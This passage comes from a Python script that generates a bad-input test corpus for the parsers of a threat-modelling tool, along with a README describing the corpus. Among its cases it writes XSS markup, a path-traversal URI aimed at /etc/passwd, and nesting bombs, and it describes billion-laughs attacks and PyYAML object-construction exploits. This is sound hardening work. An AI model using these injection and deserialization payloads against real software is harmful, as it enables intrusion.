            b"pack: corpus\x00\n",
            "a NUL byte",
            message="contains a NUL byte",
            line=1,
        ),
        Case(
            p + "invalid-utf8.yaml",
            b"pack: caf\xe9\n",
            "Latin-1 text",
            message="is not valid UTF-8",
            line=1,
        ),
        Case(
            p + "top-level-list.yaml",
            b"- pack: corpus\n",
            "a list instead of a mapping",
            message="must be a mapping",
            line=1,
        ),
        Case(
            p + "huge-likelihood.yaml",
            PACK_HEAD.replace(b"likelihood: 2", b"likelihood: " + b"9" * 100_000)
            + b"    when: {kind: service}\n",
            "a likelihood with 100,000 digits",
            message="has a number with 100,000 digits",
            line=7,
        ),
        Case(p + "binary-png.png", _png(), "a PNG image", message="contains a NUL byte", line=3),
    ]


def _sarif_cases() -> list[Case]:
    s = "sarif/"
    return [
        Case(
            s + "not-json.sarif",
            b"<?xml version='1.0'?><sarif/>",
            "XML, not JSON",
            message="is not valid JSON: Expecting value",
            line=1,
        ),
        Case(s + "empty.sarif", b"", "an empty file", message="is empty: not valid JSON", line=1),
        Case(
            s + "escaped-lone-surrogate.sarif",
            b'{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x"}}, "results":'
            b' [{"ruleId": "r", "message": {"text": "\\ud800"}}]}]}',
            "a lone surrogate written as an escape in a message (issue 14 item 20)",
            message="runs[0].results[0].message.text: has a string with an unacceptable"
            " character #xd800: surrogates are not allowed",
        ),
        Case(
            s + "escaped-noncharacter-key.sarif",
            b'{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x"}}, "results": [],'
            b' "properties": {"\\uFDD0": 1}}]}',
            "a noncharacter written as an escape in a key (issue 14 item 20)",
            message="runs[0].properties: has a key with an unacceptable character #xfdd0",
        ),
        Case(
            s + "nesting-10000.sarif",
            b"[" * 10_000 + b"]" * 10_000,
            "10,000 nested arrays",
            message="is nested more than 64 levels deep",
        ),
        Case(
            s + "nesting-65.sarif",
            b'{"runs": [], "properties": ' + b"[" * 64 + b"]" * 64 + b"}",
            "65 levels of nesting: past the bound, far below the interpreter's recursion limit",
            message="is nested more than 64 levels deep",
        ),
        Case(
            s + "no-runs.sarif",
            b'{"version": "2.1.0"}',
            "a JSON object without 'runs'",
            message="not a SARIF log (no 'runs' list)",
        ),
        Case(
            s + "runs-is-text.sarif",
            b'{"version": "2.1.0", "runs": "all"}',
            "'runs' is text",
            message="not a SARIF log (no 'runs' list)",
        ),
        Case(s + "top-level-list.sarif", b"[]", "a JSON list", message="not a SARIF log"),
        Case(
            s + "nan.sarif",
            b'{"runs": [], "score": NaN}',
            "a NaN constant (not JSON)",
            message="is not valid JSON: 'NaN' is not a JSON value",
        ),
        Case(
            s + "huge-int.sarif",
            b'{"runs": [], "n": ' + b"1" * 100_000 + b"}",
            "an integer with 100,000 digits",
            message="has a number with more than 4,300 digits",
        ),
        Case(
            s + "nul-byte.sarif",
            b'{"runs": []}\x00',
            "a trailing NUL byte",
            message="is not valid JSON: Extra data",
            line=1,
        ),
        Case(
            s + "invalid-utf8.sarif",
            b'{"runs": [], "x": "caf\xe9"}',
            "Latin-1 text",
            message="is not valid UTF-8 (byte 0xe9)",
            line=1,
        ),
        Case(
            s + "utf16-bom.sarif",
            '{"runs": []}'.encode("utf-16"),
            "UTF-16 with a BOM",
            message="is UTF-16 text",
            line=1,
        ),
        Case(
            s + "binary-png.png",
            _png(),
            "a PNG image",
            message="is not valid UTF-8 (byte 0x89)",
            line=1,
        ),
        Case(
            s + "tolerated-wrong-types.sarif",
            json.dumps(
                {
                    "version": "2.1.0",
                    "runs": [
                        7,
                        {
                            "tool": "x",
                            "results": [
                                1,
                                "r",
                                None,
                                {"locations": 5, "ruleId": [1]},
                                {"message": {"text": 12}, "locations": [{"physicalLocation": []}]},
                            ],
                        },
                        {"tool": {"driver": {"name": ["n"], "rules": "none"}}, "results": {"a": 1}},
                    ],
                }
            ).encode(),
            "every SARIF field with the wrong type: skipped, nothing mapped",
            outcome="tolerated",
        ),
        Case(
            s + "tolerated-html-message.sarif",
            json.dumps(
                {
                    "version": "2.1.0",
                    "runs": [
                        {
                            "tool": {"driver": {"name": "<b>x</b>"}},
                            "results": [
                                {
                                    "ruleId": "<script>alert(1)</script>",
                                    "message": {"text": "<img src=x onerror=alert(1)>"},
                                    "locations": [
                                        {
                                            "physicalLocation": {
                                                "artifactLocation": {"uri": "../../../etc/passwd"}
                                            }
                                        }
                                    ],
                                }
                            ],
                        }
                    ],
                }
            ).encode(),
            "markup in a scanner result (unmapped: it matches no component)",
            outcome="tolerated",
        ),
    ]


def _fuzz_cases() -> list[Case]:
    """Crashes found by ``make fuzz``, minimised; each stays here as a regression case."""
    s = "sarif/"
    return [
        Case(
            s + "fuzz-unclosed-ipv6-uri.sarif",
            b'{"runs": [{"results": [{"locations": [{"physicalLocation": '
            b'{"artifactLocation": {"uri": "https://["}}}]}]}]}',
            "fuzz crash: a result location URI with an unclosed IPv6 bracket",
            outcome="tolerated",
        ),
        Case(
            s + "fuzz-unclosed-ipv6-web-target.sarif",
            b'{"runs": [{"results": [{"webRequest": {"target": "http://[::1"}}]}]}',
            "fuzz crash, variant: a DAST web request target with an unclosed IPv6 bracket",
            outcome="tolerated",
        ),
    ]


def _baseline_cases() -> list[Case]:
    """Baseline files (``check --baseline``), read by the bounded JSON reader."""
    b = "baseline/"
    return [
        Case(
            b + "not-json.json",
            b"{fingerprints: all}",
            "not JSON",
            message="is not valid JSON",
            line=1,
        ),
        Case(b + "empty.json", b"", "an empty file", message="is empty: not valid JSON", line=1),
        Case(
            b + "nesting-100000.json",
            b"[" * 100_000 + b"]" * 100_000,
            "100,000 nested arrays (a RecursionError in json.loads)",
            message="is nested more than 8 levels deep",
        ),
        Case(
            b + "nesting-9.json",
            b'{"threatforge_baseline": 1, "findings": [{"x": [[[[[[[]]]]]]]}]}',
            "9 levels: past the bound of 8, which a baseline (3 levels) never needs",
            message="is nested more than 8 levels deep",
        ),
        Case(
            b + "nan.json",
            b'{"threatforge_baseline": 1, "findings": [], "x": NaN}',
            "a NaN constant (not JSON)",
            message="is not valid JSON: 'NaN' is not a JSON value",
        ),
        Case(
            b + "utf16-bom.json",
            '{"threatforge_baseline": 1, "findings": []}'.encode("utf-16"),
            "UTF-16 with a BOM",
            message="is UTF-16 text",
            line=1,
        ),
        Case(
            b + "not-a-baseline.json",
            b'{"findings": []}',
            "JSON that is not a baseline",
            message="not a threatforge baseline",
        ),
        Case(
            b + "escaped-noncharacter.json",
            b'{"threatforge_baseline": 1, "findings": [{"fingerprint": "r@x\\uFFFE",'
            b' "severity": "high"}]}',
            "a noncharacter written as an escape in a fingerprint (issue 14 item 20)",
            message="findings[0].fingerprint: has a string with an unacceptable character #xfffe",
        ),
    ]


def all_cases() -> list[Case]:
    """Every committed corpus case, in manifest order."""
    return [
        *_model_cases(),
        *_pack_cases(),
        *_sarif_cases(),
        *_fuzz_cases(),
        *_baseline_cases(),
    ]


README_HEAD = """# The bad-input corpus

Hostile and broken inputs for threatforge's readers: the model loader (`model/`), the YAML
rule-pack loader (`packs/`), the SARIF evidence importer (`sarif/`) and the baseline reader
(`baseline/`, `check --baseline`). Each one is refused with
a clear message that names the file (and the line, where there is one), in bounded time and
memory, without a traceback; the few valid-but-hostile ones must load and keep their text
verbatim. `tests/hardening/test_corpus.py` checks every file against `manifest.json`.

## Provenance

Every file here is written by [`generate.py`](generate.py) (`python tests/corpus/generate.py`),
from cases written by hand for threatforge's hardening issue; nothing is copied from elsewhere.
Several follow well-known attack patterns, re-created for YAML and for this format:

- *billion laughs* (`alias-bomb-*`): the XML entity-expansion attack, with YAML anchors/aliases;
- *quadratic blow-up* (`merge-key-*`): the same with YAML merge keys (`<<:`), which copy;
- PyYAML object construction (`tag-python-*`): the `!!python/object/apply` tags behind
  CVE-2017-18342 and CVE-2020-14343; the file would run `touch pwned-by-threatforge-corpus`;
- *Trojan Source* (`confusable-bidi-override`): CVE-2021-42574's bidirectional override;
- confusables (`confusable-*`): Unicode TR 39 look-alikes (Cyrillic, fullwidth, zero-width);
- markup, script, template, CSV-formula and Markdown injection in every free-text field
  (`loads-html-in-every-text-field.yaml`): valid, so it must load; reports escape it.

Files named `fuzz-*` are crashes found by `make fuzz` (see `fuzz/README.md`), minimised by hand.
A case with a `known_bug` is a bug not fixed yet: its tests are strict expected failures, so the
fix turns them into failures that ask for the flag to be removed.

Inputs that are too large to commit (a 17 MB file, a 1,000,001-character value) or that git does
not carry (a directory, a named pipe, symbolic links and their loops, include loops, a chain of
300 includes) are created by the tests in a temporary folder.

## The cases

Outcome: **refused** (exit 2, the message quoted must appear, at the line given),
**loads** (a valid model), **tolerated** (read; the malformed parts are skipped). CLI: also run
through the command line in a child process (10 s, 512 MiB).
"""


def _readme(cases: list[Case]) -> str:
    rows = [README_HEAD]
    for section in ("model", "packs", "sarif", "baseline"):
        rows.append(f"\n### `{section}/`\n")
        rows.append("| file | exercises | outcome | message (line) | CLI |")
        rows.append("|---|---|---|---|---|")
        for case in cases:
            if not case.path.startswith(section + "/"):
                continue
            expected = case.outcome
            if case.known_bug:
                expected += " (known bug)"
            message = case.message.replace("|", "\\|")
            where = f"`{message}` ({case.line})" if case.line else f"`{message}`" if message else ""
            cli = "yes" if case.path in CLI_SUBSET else ""
            rows.append(
                f"| `{case.path.split('/', 1)[1]}` | {case.about} | {expected} | {where} | {cli} |"
            )
    return "\n".join(rows) + "\n"


def main() -> None:
    """Write the corpus files, manifest.json and README.md next to this script."""
    cases = all_cases()
    manifest: dict[str, dict[str, object]] = {}
    for case in cases:
        target = HERE / case.path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(case.content)
        manifest[case.path] = {
            "about": case.about,
            "outcome": case.outcome,
            "message": case.message,
            "line": case.line,
            "names": case.names or case.path,
            "known_bug": case.known_bug,
            "cli": case.path in CLI_SUBSET,
        }
    text = json.dumps(manifest, indent=2, ensure_ascii=False) + "\n"
    (HERE / "manifest.json").write_text(text, encoding="utf-8")
    (HERE / "README.md").write_text(_readme(cases), encoding="utf-8")
    print(f"wrote {len(cases)} corpus files and manifest.json")


if __name__ == "__main__":
    main()
